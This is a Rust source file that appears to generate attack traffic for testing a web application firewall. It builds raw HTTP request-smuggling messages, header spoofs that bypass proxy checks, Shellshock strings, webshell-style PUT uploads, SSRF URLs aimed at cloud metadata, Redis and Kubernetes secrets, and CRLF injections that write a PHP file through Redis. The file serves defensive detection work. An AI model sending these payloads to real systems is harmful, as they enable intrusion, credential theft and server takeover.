//! Attacks that are a message rather than a value: framing, methods, header fields that servers act on, addresses that a
//! server is asked to fetch.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{FORM, JSON, Part, Wire, multipart};

const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("header-tricks", AttackClass::Protocol, 36, header_tricks),
    request("methods-nobody-uses", AttackClass::Protocol, 20, methods),
    request("smuggled-requests", AttackClass::Protocol, 24, smuggled),
    request("ssrf-features", AttackClass::Ssrf, 34, ssrf_features),
    payload(
        "ssrf-spelled-hosts",
        AttackClass::Ssrf,
        40,
        ssrf_hosts,
        &[Place::Query, Place::Form, Place::Json, Place::Multipart, Place::Xml, Place::Cookie, Place::Header],
        PLAIN,
    ),
    payload(
        "crlf-into-services",
        AttackClass::Crlf,
        30,
        crlf,
        &[Place::Query, Place::Path, Place::Form, Place::Json, Place::Cookie],
        &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent],
    ),
];

/// Header fields by which a client makes a server believe what only a proxy may say.
fn header_tricks(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(6);
    let page = rng.pick(&["/", "/index.html", "/login", "/static/a.css"]);
    let inside = rng.pick(&["/admin", "/admin/users", "/actuator/env", "/console", "/manage/export", "/internal/keys"]);
    let wire = Wire::get(format!("{page}?{word}"));
    let wire = match rng.below(18) {
        0 => wire.header("X-Original-URL", inside),
        1 => wire.header("X-Rewrite-URL", format!("{inside}?a={word}")),
        2 => wire.header("X-Override-URL", inside),
        3 => wire.header("Proxy", format!("http://{word}.example:8080")),
        4 => wire.header(
            "Connection",
            format!(
                "close, {}",
                rng.pick(&["X-Forwarded-For", "Authorization", "Cookie", "X-Real-IP", "X-F5-Auth-Token"])
            ),
        ),
        5 => wire.header("Range", format!("bytes=0-18446744073709551615,{}-", rng.below(99))),
        6 => wire.header(
            "Range",
            format!("bytes=0-{}", (0..rng.between(20, 60)).map(|at| format!(",5-{at}")).collect::<String>()),
        ),
        7 => wire.header("X-Middleware-Subrequest", ["middleware"; 5].join(":")),
        8 => wire.header("X-Middleware-Subrequest", "src/middleware:src/middleware:src/middleware"),
        9 => wire.header("X-HTTP-Method-Override", rng.pick(&["TRACE", "CONNECT", "DEBUG", "TRACK"])),
        10 => wire
            .header("X-Custom-IP-Authorization", "127.0.0.1")
            .header("X-Originating-IP", "127.0.0.1")
            .header("X-Remote-Addr", "127.0.0.1")
            .header("X-Client-IP", "127.0.0.1"),
        11 => wire
            .header("X-Forwarded-For", "127.0.0.1")
            .header("X-Real-IP", "127.0.0.1")
            .header("X-Originating-IP", "127.0.0.1")
            .header("True-Client-IP", "127.0.0.1")
            .header("X-Remote-IP", "127.0.0.1"),
        12 => wire
            .header("Upgrade", "websocket")
            .header("Connection", "Upgrade")
            .header("Sec-WebSocket-Version", rng.pick(&["777", "1337", "99"]))
            .header("Sec-WebSocket-Key", codec::base64(rng.bytes(16))),
        13 => wire.header("Expect", format!("{} 100-continue", rng.letters(1))),
        14 => wire.header(
            "Request-Range",
            format!("bytes=5-0{}", (1..rng.between(20, 60)).map(|at| format!(",{}-{at}", at % 9)).collect::<String>()),
        ),
        15 => wire.header("User-Agent", format!("() {{ :;}}; echo; /bin/{word}")),
        16 => wire.header("X-Forwarded-Host", format!("{word}.example\"></script><script>alert(1)</script>")),
        _ => wire.header("serverIdentity", "security").header("User-Agent", "Nacos-Server"),
    };
    (wire.header("X-Trace", &word).finish(rng), Place::Header, Encoding::Plain)
}

/// Methods of debuggers and of filters that only know the usual ones.
fn methods(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(6);
    let name = rng.letters(4);
    let wire = match rng.below(8) {
        0 => Wire::new("DEBUG", format!("/{word}.aspx")).header("Command", "stop-debug"),
        1 => Wire::new("TRACK", format!("/{word}")).header("Max-Forwards", "0"),
        2 => Wire::new("PUT", format!("/{name}.php.")).body("", format!("<?php echo '{word}';?>")),
        3 => Wire::new("PUT", format!("/{name}.jsp/")).body("", format!("<%out.print(\"{word}\");%>")),
        4 => Wire::new("PUT", format!("/{name}.jsp%20")).body("text/plain", format!("<%=\"{word}\"%>")),
        5 => Wire::new("PUT", format!("/{name}.jsp::$DATA")).body("text/plain", format!("<%=\"{word}\"%>")),
        6 => Wire::new("MOVE", format!("/{name}.txt"))
            .header("Destination", format!("http://www.example.org/{word}.asp;.jpg"))
            .header("Overwrite", "T"),
        _ => Wire::new("MOVE", format!("/fileserver/{name}.txt"))
            .header("Destination", format!("file:///opt/activemq/webapps/api/{word}.jsp")),
    };
    (wire.program("Mozilla/5.0").finish(rng), Place::Header, Encoding::Plain)
}

/// A second request hidden in the first one's body, head or chunks.
fn smuggled(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let host = "Host: www.boai.example\r\n";
    let inner = format!("{} /admin/{word} HTTP/1.1\r\nHost: localhost\r\nX: ", rng.pick(&["GET", "POST", "DELETE"]));
    let length = inner.len();
    let raw = match rng.below(14) {
        0 => format!("POST /static/{word}.js HTTP/1.1\r\n{host}Content-Length: {length}\r\n\r\n{inner}"),
        1 => format!(
            "POST /static/ HTTP/1.1\r\n{host}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{inner}"
        ),
        2 => format!("GET /{word} HTTP/1.1\r\n{host}Content-Length: {length}\r\n\r\n{inner}"),
        3 => format!("POST / HTTP/1.1\r\n{host}Content-Length: {length}\r\nTransfer-Encoding : chunked\r\n\r\n{inner}"),
        4 => format!("POST / HTTP/1.1\r\n{host}Content-Length: 0x{length:x}\r\n\r\n{inner}"),
        5 => format!("POST / HTTP/1.1\r\n{host}Content-Length: {length}, {length}\r\n\r\n{inner}"),
        6 => format!(
            "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n{length:x};{word}\n\r\n{inner}\r\n0\r\n\r\n"
        ),
        7 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{inner}"),
        8 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: \"chunked\"\r\nX-{word}: 1\r\n\r\n0\r\n\r\n"),
        9 => format!("GET /{word} HTTP/1.1\r\n{host}Host: localhost\r\n\r\n"),
        10 => format!("GET /{word}\x0bHTTP/1.1\r\n{host}\r\n"),
        11 => format!("GET http://localhost/{word} HTTP/1.1\r\n{host}\r\n"),
        12 => format!("GET @localhost/{word} HTTP/1.1\r\n{host}\r\n"),
        _ => format!(
            "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n3\r\nabc{word}\r\n0\r\nContent-Length: 9\r\n\r\n"
        ),
    };
    (raw.into_bytes(), Place::Header, Encoding::Plain)
}

/// Notations of the own machine, its neighbours and the cloud's metadata, and services behind other schemes.
fn ssrf_hosts(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    match rng.below(26) {
        0 => format!("http://0177.0.0.1/{word}"),
        1 => format!("http://0x7f.1/{word}"),
        2 => format!("http://2130706433:{}/", rng.pick(&["80", "8080", "6379"])),
        3 => format!("http://127.1:8080/{word}"),
        4 => format!("http://[::ffff:127.0.0.1]:{}/", rng.pick(&["22", "6379", "9200"])),
        5 => format!("http://[::]:{}/{word}", rng.pick(&["80", "25", "3306"])),
        6 => format!("http://0:{}/{word}", rng.pick(&["80", "22", "8500"])),
        7 => format!("http://①②⑦.⓪.⓪.①/{word}"),
        8 => format!("http://{word}.127.0.0.1.nip.io/"),
        9 => format!("http://www.example.org@127.0.0.1/{word}"),
        10 => format!("http://127.0.0.1#@www.example.org/{word}"),
        11 => format!("http://127.0.0.1:6379/{word}"),
        12 => format!("http://localhost:2375/containers/json?{word}"),
        13 => format!("sftp://{word}.example:11111/"),
        14 => format!("sftp://10.0.{}.{}:22", rng.below(255), rng.below(255)),
        15 => format!("ftp://127.0.0.1:{}/{word}", rng.pick(&["21", "22", "25", "6379"])),
        16 => format!("ftp://10.{}.3.4:6379", rng.below(200)),
        17 => format!("tftp://{word}.example:69/TESTUDPPACKET"),
        18 => format!("gopher://127.0.0.1:9000/_%01%01{word}"),
        19 => "dict://127.0.0.1:11211/stats".to_owned(),
        20 => format!("http://169.254.169.254.{word}.example/latest/meta-data/"),
        21 => "http://2852039166/latest/meta-data/iam/security-credentials/".to_owned(),
        22 => "http://[fe80::1%25eth0]:80/".to_owned(),
        23 => format!("https://kubernetes.default.svc/api/v1/namespaces/{word}/secrets"),
        24 => format!("http:///127.0.0.1/{word}"),
        _ => format!("http:127.0.0.1:8080/{word}"),
    }
    .into_bytes()
}

/// Functions of applications that fetch: webhooks, previews, converters, pingbacks, imports, playlists.
fn ssrf_features(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(6);
    let inner = rng.pick(&[
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://127.0.0.1:6379/",
        "http://100.100.100.200/latest/meta-data/",
        "http://[::1]:9200/_cat/indices",
        "http://metadata.google.internal/computeMetadata/v1/",
        "gopher://127.0.0.1:6379/_INFO",
        "http://localhost:8500/v1/agent/self",
        "http://192.168.1.1:2375/images/json",
    ]);
    let (wire, place) = match rng.below(15) {
        0 => (
            Wire::post(
                "/api/webhooks",
                JSON,
                format!(
                    "{{\"name\":\"{word}\",\"events\":[\"push\"],\"config\":{{\"url\":{},\"content_type\":\"json\"}}}}",
                    codec::json(inner)
                ),
            ),
            Place::Json,
        ),
        1 => (
            Wire::post(
                "/xmlrpc.php",
                "text/xml",
                format!(
                    "<methodCall><methodName>pingback.ping</methodName><params><param><value><string>{}</string></value></param><param><value><string>http://www.example.org/?p={word}</string></value></param></params></methodCall>",
                    codec::xml(inner)
                ),
            ),
            Place::Xml,
        ),
        2 => (
            Wire::post(
                "/convert/pdf",
                FORM,
                format!(
                    "html={}",
                    codec::form(format!("<h1>{word}</h1><iframe src=\"{inner}\" width=\"800\"></iframe>"))
                ),
            ),
            Place::Form,
        ),
        3 => (
            Wire::post(
                "/convert/pdf",
                JSON,
                format!("{{\"html\":{}}}", codec::json(format!("<link rel=attachment href=\"{inner}\">{word}"))),
            ),
            Place::Json,
        ),
        4 => {
            let (kind, body) = multipart(
                &[Part::file(
                    "avatar",
                    &format!("{word}.svg"),
                    "image/svg+xml",
                    format!(
                        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{inner}\" width=\"9\"/></svg>"
                    ),
                )],
                rng,
            );
            (Wire::post("/user/avatar", &kind, body), Place::Multipart)
        }
        5 => {
            let (kind, body) = multipart(
                &[Part::file(
                    "video",
                    &format!("{word}.m3u8"),
                    "application/octet-stream",
                    format!(
                        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{inner}|file:///etc/passwd\n#EXT-X-ENDLIST"
                    ),
                )],
                rng,
            );
            (Wire::post("/video/upload", &kind, body), Place::Multipart)
        }
        6 => (
            Wire::get(format!(
                "/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname={word}&operator={}",
                codec::percent(inner)
            )),
            Place::Query,
        ),
        7 => (
            Wire::get(format!(
                "/plugins/servlet/gadgets/makeRequest?url={}",
                codec::percent(format!("https://jira.example@{}", &inner[inner.find("://").unwrap() + 3..]))
            )),
            Place::Query,
        ),
        8 => (
            Wire::get(format!(
                "/ueditor/php/controller.php?action=catchimage&source[]={}&n={word}",
                codec::percent(format!("{inner}?.png"))
            )),
            Place::Query,
        ),
        9 => (Wire::get(format!("/_next/image?w=640&q=75&url={}&n={word}", codec::percent(inner))), Place::Query),
        10 => (
            Wire::post(
                "/graphql",
                JSON,
                format!(
                    "{{\"query\":{}}}",
                    codec::json(format!("mutation {{ importFrom(name: \"{word}\", url: \"{inner}\") {{ id }} }}"))
                ),
            ),
            Place::Json,
        ),
        11 => {
            (Wire::get(format!("/index?{word}")).header("Referer", inner).header("X-Wap-Profile", inner), Place::Header)
        }
        12 => (
            Wire::post(
                "/soap/import",
                "text/xml",
                format!(
                    "<import><wsdl:import xmlns:wsdl=\"http://schemas.xmlsoap.org/wsdl/\" location=\"{}\"/><n>{word}</n></import>",
                    codec::xml(inner)
                ),
            ),
            Place::Xml,
        ),
        13 => (
            Wire::post(
                "/api/rss",
                JSON,
                format!("{{\"feed\":{},\"title\":\"{word}\"}}", codec::json(format!("feed:{inner}"))),
            ),
            Place::Json,
        ),
        _ => (Wire::get(format!("/proxy/{}?{word}", codec::percent_keeping(inner.as_bytes(), b":/"))), Place::Path),
    };
    (wire.desktop(rng).finish(rng), place, Encoding::Plain)
}

/// Lines for whatever speaks lines behind the application.
fn crlf(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let end = rng.pick(&["\r\n", "\n", "\r\n", "\r"]);
    match rng.below(14) {
        0 => format!("{end}Set-Cookie: {word}=1; path=/"),
        1 => format!("/{word}{end}Location: http://{word}.example/"),
        2 => format!(
            "zh{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK{end}Content-Type: text/html{end}{end}<h1>{word}</h1>"
        ),
        3 => format!("{word}{end}Refresh: 0;url=http://{word}.example"),
        4 => format!("{word}嘊嘍Set-Cookie: {word}=1"),
        5 => format!("1.1.1.1{end}X-Forwarded-For: 127.0.0.1{end}X-{word}: 1"),
        6 => format!("{word}{end}*3{end}$3{end}SET{end}$1{end}a{end}$5{end}{word}"),
        7 => {
            format!("http://127.0.0.1:6379/{end}CONFIG SET dir /var/www/{end}CONFIG SET dbfilename {word}.php{end}SAVE")
        }
        8 => format!("{word} HTTP/1.1{end}Host: localhost:8080{end}{end}GET /{word}"),
        9 => format!("{end}{end}<script>alert('{word}')</script>"),
        10 => format!("{end} Set-Cookie: {word}=a; HttpOnly"),
        11 => format!("/{word}{end}Access-Control-Allow-Origin: *{end}Access-Control-Allow-Credentials: true"),
        12 => format!("{word}{end}Link: </x.css>; rel=stylesheet{end}X-XSS-Protection: 0"),
        _ => format!("attachment.txt{end}Content-Disposition: inline; filename={word}.html"),
    }
    .into_bytes()
}
